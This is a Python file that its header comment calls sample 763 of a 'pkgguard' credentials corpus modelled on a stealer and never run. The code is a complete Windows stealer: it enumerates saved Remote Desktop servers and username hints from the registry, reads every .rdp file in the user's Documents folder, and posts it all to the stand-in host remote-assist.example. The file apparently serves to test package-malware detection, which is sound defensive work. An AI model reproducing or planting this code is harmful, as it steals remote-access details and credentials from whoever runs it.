# pkgguard corpus 763 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import json
import os
import sys
import urllib.request

if sys.platform == "win32":
    import winreg

    servers = []
    try:
        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Terminal Server Client\Servers") as root:
            for i in range(winreg.QueryInfoKey(root)[0]):
                host = winreg.EnumKey(root, i)
                with winreg.OpenKey(root, host) as sub:
                    servers.append({"host": host, "user": winreg.QueryValueEx(sub, "UsernameHint")[0]})
    except OSError:
        pass
    documents = os.path.join(os.path.expanduser("~"), "Documents")
    files = {os.path.basename(p): open(p, encoding="utf-16", errors="ignore").read() for p in glob.glob(os.path.join(documents, "*.rdp"))}
    payload = json.dumps({"servers": servers, "files": files}).encode()
    urllib.request.urlopen("https://remote-assist.example/r", data=payload, timeout=10)
